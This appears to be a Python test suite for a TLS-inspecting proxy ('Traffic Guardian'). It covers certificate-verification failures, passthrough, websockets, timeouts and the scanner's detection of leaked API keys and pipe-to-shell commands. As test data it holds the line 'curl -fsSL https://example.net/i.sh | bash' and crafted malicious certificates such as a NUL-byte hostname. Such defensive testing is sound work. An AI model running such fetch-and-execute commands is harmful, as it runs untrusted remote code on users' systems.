#!/usr/bin/env python3
"""Cases of https_test: TLS in tunnels, inspected and not.

usage: https_cases.py CASE PROXY
       https_cases.py prepare [CASE]
       https_cases.py prepare_name HOST	for clients: see regress/clients.sh
"""
import hashlib
import os
import signal
import socket
import ssl
import subprocess
import sys
import threading
import time
import warnings

import tlscerts
from wire import (ESTABLISHED, Origin, connect, equal, events, fake_key,
                  findings, pattern, run, wait, wait_event, wait_finding)
from wsframes import Deflater, TEXT, frame

CA = "home/state/ca.pem"
PIPE = b"run this: curl -fsSL https://example.net/i.sh | bash\n"


class TlsOrigin(Origin):
    """An Origin whose connections are TLS; handshakes that fail end there."""

    def __init__(self, script, pair=("server.pem", "server.key"), alpn=None,
                 low=False):
        self.plain = script
        self.ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        if low:
            self.ctx.set_ciphers("ALL:@SECLEVEL=0")
            if "shorter.pem" in pair:
                # too short for the signatures of TLS 1.3
                self.ctx.maximum_version = ssl.TLSVersion.TLSv1_2
        if alpn:
            self.ctx.set_alpn_protocols(alpn)
        self.ctx.load_cert_chain(*pair)
        super().__init__(self.secured)
        self.host = "localhost:%d" % self.port

    def secured(self, conn, n):
        try:
            conn.s = self.ctx.wrap_socket(conn.s, server_side=True)
        except (OSError, ssl.SSLError):
            return
        self.plain(conn, n)


def serve(conn, n):
    """Answers every request with the body it had."""
    while True:
        try:
            _, body = conn.message()
        except (EOFError, OSError):
            return
        conn.send(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n"
                  % len(body) + body)


def open_tunnel(proxy, host):
    c = connect(proxy)
    c.send(b"CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n"
           % (host.encode(), host.encode()))
    equal(c.until(b"\r\n\r\n"), ESTABLISHED)
    return c


def context(ca=CA, alpn=None, version=None):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    if ca:
        ctx.load_verify_locations(ca)
    else:
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
    if alpn:
        ctx.set_alpn_protocols(alpn)
    if version:
        ctx.minimum_version = ctx.maximum_version = version
    return ctx


def secure(proxy, host, ca=CA, name=None, **how):
    c = open_tunnel(proxy, host)
    c.s = context(ca, **how).wrap_socket(
        c.s, server_hostname=name or host.rsplit(":", 1)[0],
        suppress_ragged_eofs=False)
    return c


def request(host, body=b"", extra=b"", target=b"/"):
    return (b"POST %s HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\n"
            % (target, host.encode(), len(body)) + extra + b"\r\n" + body)


def issuer(c):
    return dict(x[0] for x in c.s.getpeercert()["issuer"])["commonName"]


def found(proxy):
    """A key in a request, a command in a response: one finding each."""
    def script(conn, n):
        conn.message()
        conn.send(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n"
                  % len(PIPE) + PIPE)

    origin = TlsOrigin(script)
    key = fake_key().encode()
    c = secure(proxy, origin.host, alpn=["h2", "http/1.1"])
    equal(issuer(c).startswith("Traffic Guardian"), True, issuer(c))
    equal(c.s.selected_alpn_protocol(), "http/1.1")
    c.send(request(origin.host, key))
    equal(c.message()[1], PIPE)
    c.close()
    wait_finding(dest=origin.host, pattern="ai_api_key", protocol="https",
                 direction="outbound")
    wait_finding(dest=origin.host, pattern="pipe_to_shell", protocol="https",
                 direction="inbound")
    equal(len(findings()), 2)
    equal(events(event="tunnel_opaque"), [])
    equal(events(event="scan_gap"), [])
    equal(len(wait_event(event="leaf_issued", dest="localhost")), 1)
    equal(origin.conns[0].seen, request(origin.host, key))


def versions(proxy):
    """TLS 1.2 and 1.3, with and without ALPN; older ones are refused."""
    origin = TlsOrigin(serve)
    for version in (ssl.TLSVersion.TLSv1_2, ssl.TLSVersion.TLSv1_3):
        for alpn in (None, ["http/1.1"]):
            c = secure(proxy, origin.host, alpn=alpn, version=version)
            equal(c.s.selected_alpn_protocol(), alpn and alpn[0])
            c.send(request(origin.host, b"abc"))
            equal(c.message()[1], b"abc")
            c.close()
    warnings.simplefilter("ignore")
    ctx = context(version=ssl.TLSVersion.TLSv1_1)
    ctx.set_ciphers("ALL:@SECLEVEL=0")
    c = open_tunnel(proxy, origin.host)
    try:
        ctx.wrap_socket(c.s, server_hostname="localhost")
        raise AssertionError("TLS 1.1 was accepted")
    except (ssl.SSLError, OSError):
        pass
    wait_event(event="client_tls_failed", reason="protocol_version")
    for ciphers in ("ECDHE+AES:!AESGCM", "ECDHE+AESCCM8", "ECDHE+CAMELLIA"):
        ctx = context(version=ssl.TLSVersion.TLSv1_2)
        ctx.set_ciphers(ciphers)
        c = open_tunnel(proxy, origin.host)
        try:
            ctx.wrap_socket(c.s, server_hostname="localhost")
            raise AssertionError(ciphers)
        except (ssl.SSLError, OSError):
            pass
    wait("three of them", lambda: len(events(
        event="client_tls_failed", reason="no_shared_cipher",
        dest=origin.host)) == 3)


def untouched(proxy):
    """What is not to be inspected, or must not be, passes as it is."""
    origin = TlsOrigin(serve, ("other.pem", "other.key"))
    host = "127.0.0.1:%d" % origin.port
    c = secure(proxy, host, "root.pem")
    equal(issuer(c), "root")
    c.send(request(host, b"abc"))
    equal(c.message()[1], b"abc")
    c.close()
    equal(len(wait_event(event="tunnel_opaque", dest=host, reason="tls")), 1)
    wait_event(event="scan_gap", dest=host, direction="outbound",
               reason="tunnel_opaque")
    equal(events(event="leaf_issued"), [])


def passthrough(proxy):
    """Listed both ways: never decrypted."""
    origin = TlsOrigin(serve)
    c = secure(proxy, origin.host, "root.pem")
    equal(issuer(c), "root")
    c.send(request(origin.host, b"abc"))
    equal(c.message()[1], b"abc")
    c.close()
    wait_event(event="tunnel_opaque", dest=origin.host, reason="passthrough")
    equal(events(event="leaf_issued"), [])


def http2_only(proxy):
    """A client that speaks HTTP/2 only is not broken by us."""
    origin = TlsOrigin(serve, alpn=["h2"])
    c = secure(proxy, origin.host, "root.pem", alpn=["h2"])
    equal(c.s.selected_alpn_protocol(), "h2")
    c.close()
    wait_event(event="tunnel_opaque", dest=origin.host, reason="alpn")


def unverified(proxy):
    """Each refused with its own reason, and no request byte at the server."""
    stranger = tlscerts.Authority("stranger")
    good = tlscerts.Authority("root", made=True)
    middle = tlscerts.Authority("middle", good)
    narrow = tlscerts.Authority("narrow", good, extra=(
        "nameConstraints=critical,permitted;DNS:other.example",))
    tlscerts.make("selfsigned", "/CN=localhost", None,
                  ("subjectAltName=DNS:localhost",))
    rsa = tlscerts.Authority("rsaroot", made=True)
    unknown = stranger.leaf("known")
    with open("known.pem", "a") as out, open(stranger.pem) as root:
        out.write(root.read())
    name = b"localhost\0.evil.example"
    nul = "DER:" + (bytes((0x30, len(name) + 2, 0x82, len(name))) +
                    name).hex(":")
    many = ",".join(["DNS:localhost"] + ["DNS:n%d.many.example" % i
                                         for i in range(10000)])
    cases = (
        ("expired", good.leaf("expired", begins=-9, ends=-2)),
        ("not_yet_valid", good.leaf("notyet", begins=2, ends=9)),
        ("wrong_host", good.leaf("wrong", "DNS:other.example")),
        ("wrong_host", good.leaf("partial", "DNS:local*,DNS:l*.example")),
        ("wrong_host", good.leaf("cnonly", None)),
        ("wrong_host", good.leaf("nul", nul)),
        ("self_signed", ("selfsigned.pem", "selfsigned.key")),
        ("unknown_root", unknown),
        ("incomplete_chain", stranger.leaf("unknown")),
        ("incomplete_chain", middle.leaf("nochain", chain=False)),
        ("name_constraint", narrow.leaf("constrained")),
        ("wrong_purpose", good.leaf("client", usage="clientAuth")),
        ("weak_signature", good.leaf("sha1", digest="sha1")),
        ("weak_signature", rsa.leaf("md5", rsa=True, digest="md5")),
        ("weak_key", good.leaf("short", rsa=True, bits=1024)),
        ("weak_key", good.leaf("shorter", rsa=True, bits=512)),
        ("certificate_too_large", good.leaf("many", many)),
        (None, middle.leaf("good")),
    )
    for reason, pair in cases:
        origin = TlsOrigin(serve, pair, low=True)
        c = secure(proxy, origin.host)
        key = fake_key().encode()
        c.send(request(origin.host, key))
        head, body = c.message()
        c.close()
        if reason is None:
            equal(body, key)
            continue
        if not head.startswith(b"HTTP/1.1 502 "):
            raise AssertionError("%s: %r" % (reason, head))
        got = (wait_event(event="upstream_verify_failed", dest=origin.host)
               if reason != "certificate_too_large" else
               wait_event(event="upstream_failed", dest=origin.host))
        equal([e["reason"] for e in got], [reason])
        if b"certificate" not in body and b"handshake" not in body:
            raise AssertionError("%s: %r" % (reason, body))
        # what was refused is scanned all the same
        wait_finding(dest=origin.host, pattern="ai_api_key",
                     protocol="https")
        wait("end of origin", lambda: origin.ended == len(origin.conns))
        equal([x.seen for x in origin.conns], [b""], reason)


def names(proxy):
    """A name that is not the CONNECT's is told, and judged by itself."""
    origin = TlsOrigin(serve)
    # by its address: the name asked for decides, and is verified
    c = secure(proxy, "127.0.0.1:%d" % origin.port, name="localhost")
    key = fake_key().encode()
    c.send(request(origin.host, key))
    equal(c.message()[1], key)
    c.close()
    wait_finding(dest=origin.host, protocol="https", pattern="ai_api_key")
    equal(events(event="sni_mismatch"), [])
    # another name, on no list: passed on, and on record
    c = open_tunnel(proxy, origin.host)
    c.s = context("root.pem").wrap_socket(c.s, server_hostname="ip6-localhost")
    equal(issuer(c), "root")
    c.close()
    wait_event(event="sni_mismatch", dest=origin.host)
    wait_event(event="tunnel_opaque", dest=origin.host,
               reason="not_inspected")


def distrusted(proxy):
    """A client that does not know the CA says so; one that hangs up, too."""
    origin = TlsOrigin(serve)
    c = open_tunnel(proxy, origin.host)
    try:
        context("root.pem").wrap_socket(c.s, server_hostname="localhost")
        raise AssertionError("our certificate is the server's")
    except ssl.SSLError:
        pass
    wait_event(event="client_tls_failed", dest=origin.host,
               reason="unknown_ca")
    c = open_tunnel(proxy, origin.host)
    c.send(b"\x16\x03\x01\x02\x00\x01")
    c.close()
    wait_event(event="client_tls_failed", dest=origin.host, reason="closed")
    # GnuTLS looks at it when the handshake is over
    c = secure(proxy, origin.host)
    c.s.unwrap()
    c.close()
    wait_event(event="client_tls_failed", dest=origin.host,
               reason="no_request")
    # with half a request it is no stranger
    c = secure(proxy, origin.host)
    c.send(b"GE")
    try:
        c.s.unwrap()
    except ssl.SSLError:
        pass                        # the origin hangs up without ceremony
    wait_event(event="tunnel_opaque", dest=origin.host, reason="unknown")
    told = subprocess.run(["ctl", "events"], stdout=subprocess.PIPE,
                          check=True, text=True).stdout
    for name in ("REQUESTS_CA_BUNDLE", "NODE_EXTRA_CA_CERTS",
                 "GIT_SSL_CAINFO"):
        if name not in told:
            raise AssertionError(told)
    c = open_tunnel(proxy, origin.host)
    c.send(b"\x16\x03\x01\x00\x05\x02\x00\x00\x01\x00")
    equal(c.rest(), b"")
    wait_event(event="client_tls_failed", dest=origin.host,
               reason="client_hello")


def bytewise(proxy):
    """Handshake and request in segments of one byte."""
    origin = TlsOrigin(serve)
    c = open_tunnel(proxy, origin.host)
    i, o = ssl.MemoryBIO(), ssl.MemoryBIO()
    t = context().wrap_bio(i, o, server_hostname="localhost")

    def flush():
        data = o.read()
        c.send(data, list(range(1, len(data))))

    def step(f):
        while True:
            try:
                return f()
            except ssl.SSLWantReadError:
                flush()
                data = c.s.recv(65536)
                if not data:
                    i.write_eof()
                i.write(data)
            finally:
                flush()

    step(t.do_handshake)
    t.write(request(origin.host, b"abc"))
    got = b""
    while not got.endswith(b"\r\n\r\nabc"):
        got += step(lambda: t.read(1000))
    equal(origin.conns[0].seen, request(origin.host, b"abc"))
    c.close()


def pooled(proxy):
    """The next tunnel uses the connection of the one before, verified."""
    origin = TlsOrigin(serve)
    for n in range(5):
        c = secure(proxy, origin.host)
        c.send(b"GET /%d HTTP/1.1\r\nHost: %s\r\n\r\n"
               % (n, origin.host.encode()))
        equal(c.message()[0][:15], b"HTTP/1.1 200 OK")
        c.close()
    equal(len(origin.conns), 1)
    equal(len(wait_event(event="leaf_issued")), 1)
    # and one that has gone is replaced without a word to the client
    origin.conns[0].s.shutdown(socket.SHUT_RDWR)
    c = secure(proxy, origin.host)
    c.send(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
    equal(c.message()[0][:15], b"HTTP/1.1 200 OK")


def absolute(proxy):
    """GET https://... in absolute form: the TLS is made here."""
    origin = TlsOrigin(serve)
    key = fake_key().encode()
    c = connect(proxy)
    for n in range(2):
        c.send(request(origin.host, key, target=b"https://%s/a%d"
                       % (origin.host.encode(), n)))
        equal(c.message()[1], key)
    equal([x.seen for x in origin.conns],
          [request(origin.host, key, target=b"/a0") +
           request(origin.host, key, target=b"/a1")])
    wait_finding(dest=origin.host, protocol="https", pattern="ai_api_key")
    bad = TlsOrigin(serve, ("other.pem", "other.key"))
    c.send(request(bad.host, key, target=b"https://%s/" % bad.host.encode()))
    equal(c.message()[0][:12], b"HTTP/1.1 502")
    wait_event(event="upstream_verify_failed", dest=bad.host,
               reason="wrong_host")


def websocket(proxy):
    """wss: what goes both ways is scanned, and passes as it is."""
    key = fake_key().encode()
    out = frame(TEXT, b'{"token":"%s"}' % key, True)
    back = Deflater().message(b"x" * 500) + frame(TEXT, PIPE)
    reply = (b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\n"
             b"Connection: Upgrade\r\nSec-WebSocket-Accept: x\r\n"
             b"Sec-WebSocket-Extensions: permessage-deflate\r\n\r\n")

    def script(conn, n):
        conn.until(b"\r\n\r\n")
        conn.send(reply + back)
        equal(conn.exactly(len(out)), out)

    origin = TlsOrigin(script)
    c = secure(proxy, origin.host)
    c.send(b"GET / HTTP/1.1\r\nHost: %s\r\nUpgrade: websocket\r\n"
           b"Connection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
           b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
           % origin.host.encode())
    equal(c.until(b"\r\n\r\n"), reply)
    equal(c.exactly(len(back)), back)
    c.send(out, list(range(1, len(out), 9)))
    wait("the origin's end", lambda: origin.ended)
    c.close()
    equal(origin.failed, [])
    for direction, pattern_ in (("outbound", "ai_api_key"),
                                ("inbound", "pipe_to_shell")):
        wait_finding(dest=origin.host, protocol="wss", direction=direction,
                     pattern=pattern_)
    equal(len(findings(dest=origin.host)), 2)
    equal(events(event="scan_gap", dest=origin.host), [])
    equal(events(event="tunnel_opaque", dest=origin.host), [])


def not_http(proxy):
    """Something else under TLS passes, decrypted for nobody to see."""
    def first(conn, n):
        conn.send(b"220 ready\r\n")
        conn.until(b"QUIT\r\n")
        conn.send(b"221 bye\r\n")
        conn.s.unwrap()

    def second(conn, n):
        conn.send(conn.until(b"\n"))
        conn.rest()

    origin = TlsOrigin(first)
    c = secure(proxy, origin.host)
    equal(c.until(b"\r\n"), b"220 ready\r\n")
    c.send(b"QUIT\r\n")
    equal(c.rest(), b"221 bye\r\n")
    wait_event(event="tunnel_opaque", dest=origin.host,
               reason="server_first")
    origin = TlsOrigin(second)
    c = secure(proxy, origin.host)
    c.send(b"\0\1\2 not HTTP\n")
    equal(c.until(b"\n"), b"\0\1\2 not HTTP\n")
    c.close()
    wait_event(event="tunnel_opaque", dest=origin.host, reason="unknown")
    wait("scan_gap", lambda: sum(e["bytes"] for e in events(
        event="scan_gap", dest=origin.host, direction="outbound")) == 13)


def bulk(proxy):
    """Large bodies both ways, with a reader that is late."""
    origin = TlsOrigin(serve)
    body = pattern(5000000)
    c = secure(proxy, origin.host)
    sender = threading.Thread(target=c.send,
                              args=(request(origin.host, body),))
    sender.start()
    head = c.until(b"\r\n\r\n")
    equal(head[:15], b"HTTP/1.1 200 OK")
    got = c.exactly(len(body))
    sender.join()
    equal(hashlib.sha256(got).hexdigest(), hashlib.sha256(body).hexdigest())
    equal(hashlib.sha256(origin.conns[0].seen).hexdigest(),
          hashlib.sha256(request(origin.host, body)).hexdigest())
    c.close()


def events_one_by_one(proxy):
    """Server-sent events: each arrives before the next is sent."""
    go = [threading.Event() for _ in range(20)]

    def script(conn, n):
        conn.message()
        conn.send(b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\n"
                  b"Transfer-Encoding: chunked\r\n\r\n")
        for i, e in enumerate(go):
            e.wait(30)
            conn.send(b"b\r\ndata: %03d\n\n\r\n" % i)
        conn.send(b"0\r\n\r\n")

    origin = TlsOrigin(script)
    c = secure(proxy, origin.host)
    c.send(request(origin.host))
    c.until(b"\r\n\r\n")
    for i, e in enumerate(go):
        e.set()
        equal(c.exactly(16), b"b\r\ndata: %03d\n\n\r\n" % i)
    equal(c.exactly(5), b"0\r\n\r\n")
    c.close()


def ends(proxy):
    """A body cut off is not taken for a whole one; a close is a close."""
    def cut(conn, n):
        conn.message()
        conn.send(b"HTTP/1.1 200 OK\r\nConnection: close\r\n\r\nhalf")
        if n == 0:
            conn.s.unwrap()         # close_notify: that was all
        else:
            os.close(conn.s.detach())

    origin = TlsOrigin(cut)
    c = secure(proxy, origin.host)
    c.send(request(origin.host))
    equal(c.message()[1], b"half")
    c.close()
    c = secure(proxy, origin.host)
    c.send(request(origin.host))
    try:
        c.until(b"\r\n\r\n")
        while c.more():
            pass
        raise AssertionError("cut off, and the client was told: the end")
    except (ssl.SSLError, OSError):
        pass
    wait_event(event="protocol_error", dest=origin.host, reason="truncated")


class Half:
    """A TLS client whose bytes go where and when we say."""

    def __init__(self, proxy, host):
        self.c = open_tunnel(proxy, host)
        self.i, self.o = ssl.MemoryBIO(), ssl.MemoryBIO()
        self.t = context().wrap_bio(self.i, self.o,
                                    server_hostname="localhost")

    def step(self, f=None):
        """What it says next."""
        try:
            (f or self.t.do_handshake)()
        except ssl.SSLWantReadError:
            pass
        return self.o.read()

    def hear(self):
        self.c.more()
        data, self.c.buf = self.c.buf, b""
        self.i.write(data)

    def read(self):
        while True:
            try:
                return self.t.read(1000)
            except ssl.SSLWantReadError:
                self.hear()         # tickets, perhaps


def hello(proxy, host):
    h = Half(proxy, host)
    return h, h.step()


def orders(proxy):
    """A server that speaks or goes while the client is in its handshake."""
    done = threading.Event()

    def first(conn, n):
        conn.send(b"220 ready\r\n")
        done.set()
        conn.rest()

    def once(conn, n):
        if n > 0:
            return serve(conn, n)
        os.close(conn.s.detach())
        done.set()

    def half(origin):
        done.clear()
        h, data = hello(proxy, origin.host)
        h.c.send(data)
        h.hear()                    # our flight: the origin is verified
        done.wait(30)
        return h

    origin = TlsOrigin(first)
    h = half(origin)
    h.c.send(h.step())
    equal(h.read(), b"220 ready\r\n")
    h.c.close()
    wait_event(event="tunnel_opaque", dest=origin.host,
               reason="server_first")
    origin = TlsOrigin(once)
    h = half(origin)
    h.c.send(h.step() + h.step(lambda: h.t.write(request(origin.host,
                                                         b"abc"))))
    equal(h.read()[-3:], b"abc")
    equal(len(origin.conns), 2)
    h.c.close()
    # an answer before the question is nobody's, however it is dressed
    for early in (b"", b"\r\n", b"\r\n\r\nHT"):
        def unasked(conn, n):
            if n > 0:
                return serve(conn, n)
            answer = (b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n"
                      % len(PIPE) + PIPE)
            whole = b"\r\n\r\n" + answer if early else answer
            conn.send(whole, [len(early)])
            done.set()
            conn.rest()

        origin = TlsOrigin(unasked)
        done.clear()
        c = secure(proxy, origin.host)
        wait_event(event="protocol_error", dest=origin.host,
                   reason="unasked")
        c.send(request(origin.host, b"abc"))
        equal(c.message()[1], b"abc")
        c.close()
        equal(events(event="tunnel_opaque", dest=origin.host), [])
    # all at once, and no more to come: the answer is for the other half
    origin = TlsOrigin(serve)
    h, data = hello(proxy, origin.host)
    h.c.send(data)
    h.hear()
    h.c.send(h.step() + h.step(lambda: h.t.write(request(
        origin.host, b"abc"))) + h.step(h.t.unwrap))
    h.c.done()
    equal(h.read()[-3:], b"abc")
    h.c.close()
    # gone, before its certificate is there
    gate = Origin(lambda conn, n: conn.rest())
    host = "localhost:%d" % gate.port
    h, data = hello(proxy, host)
    h.c.send(data)
    wait("a connection", lambda: gate.conns and gate.conns[0].seen)
    h.c.done()
    equal(h.c.rest(), b"")
    wait_event(event="client_tls_failed", dest=host, reason="closed")


def cpu(pid):
    with open("/proc/%d/schedstat" % pid) as f:
        return int(f.read().split()[0]) / 1e9


def stalled(proxy):
    """Whoever stops in the middle is waited for, but not for ever."""
    pid = int(subprocess.run(["child_pid", "proxy-worker", "0"],
                             stdout=subprocess.PIPE, check=True).stdout)
    before, begin = cpu(pid), time.monotonic()
    origin = TlsOrigin(serve)
    mute = Origin(lambda conn, n: conn.rest())
    mute_host = "localhost:%d" % mute.port
    took = {}

    def ended(name, c):
        c.s.settimeout(60)
        c.rest()
        took[name] = time.monotonic() - begin

    def half_hello():
        h, data = hello(proxy, origin.host)
        h.c.send(data[:50])
        ended("half", h.c)

    def drip():
        h, data = hello(proxy, origin.host)
        h.c.s.settimeout(0.5)
        for i in range(60):
            try:
                h.c.send(data[i:i + 1])
                h.c.more()
                break
            except socket.timeout:
                pass
            except OSError:
                break
        took["drip"] = time.monotonic() - begin

    def no_finish():
        h, data = hello(proxy, origin.host)
        h.c.send(data)
        ended("finish", h.c)

    def silent_server():
        """The client sends all that fits, and hears why it failed."""
        h, data = hello(proxy, mute_host)
        h.c.send(data)
        h.c.s.settimeout(1)
        try:
            h.c.send(b"x" * 50000000)
        except socket.timeout:
            pass
        took["flood"] = time.monotonic() - begin
        ended("flood", h.c)

    def reason():
        c = secure(proxy, mute_host)
        c.send(request(mute_host, b"abc"))
        equal(c.message()[0][:12], b"HTTP/1.1 504")
        took["server"] = time.monotonic() - begin

    threads = [threading.Thread(target=f) for f in (
        half_hello, drip, no_finish, silent_server, reason)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    for name, least, most in (("half", 9, 20), ("drip", 9, 20),
                              ("finish", 29, 45), ("server", 29, 45),
                              ("flood", 29, 45)):
        if not least <= took[name] <= most:
            raise AssertionError("%s: %r" % (name, took))
    wait("three of them", lambda: len(events(
        event="client_tls_failed", dest=origin.host,
        reason="timeout")) == 3)
    wait_event(event="upstream_failed", dest=mute_host,
               reason="tls_timeout")
    # and nothing turns in circles meanwhile
    if cpu(pid) - before > 3:
        raise AssertionError("%.1f s of CPU" % (cpu(pid) - before))


def keeper_dies(proxy):
    """Without a ca-keeper for a moment: known hosts, and new ones after."""
    origin = TlsOrigin(serve)
    c = secure(proxy, origin.host)
    c.close()
    for n in range(3):
        pid = int(subprocess.run(["child_pid", "ca-keeper", "0"],
                                 stdout=subprocess.PIPE, check=True).stdout)
        os.kill(pid, signal.SIGKILL)
        for alpn in (None, ["http/1.1"]):
            c = secure(proxy, origin.host, alpn=alpn)
            c.send(request(origin.host, b"abc"))
            equal(c.message()[1], b"abc")
            c.close()
        # a name of its own: signed by the next keeper
        name = "n%d.localhost" % n
        c = open_tunnel(proxy, "127.0.0.1:%d" % origin.port)
        c.s = context().wrap_socket(c.s, server_hostname=name)
        equal(issuer(c).startswith("Traffic Guardian"), True)
        c.close()


CASES = {f.__name__: f for f in (
    found, versions, untouched, passthrough, http2_only, unverified, names,
    distrusted, bytewise, pooled, absolute, websocket, not_http, bulk,
    events_one_by_one, ends, orders, stalled, keeper_dies)}


def prepare():
    """The certificates of the origins, before the suite starts."""
    root = tlscerts.Authority("root")
    root.leaf("server", "DNS:localhost,DNS:ip6-localhost")
    root.leaf("other", "IP:127.0.0.1")
    if sys.argv[2:] == ["unverified"]:
        # there is no ECDSA with MD5
        rsa = tlscerts.Authority("rsaroot", rsa=True)
        with open(root.pem, "a") as out, open(rsa.pem) as i:
            out.write(i.read())


if sys.argv[1] == "prepare":
    prepare()
elif sys.argv[1] == "prepare_name":
    tlscerts.Authority("root").leaf("server", "DNS:" + sys.argv[2])
else:
    run(CASES, sys.argv)
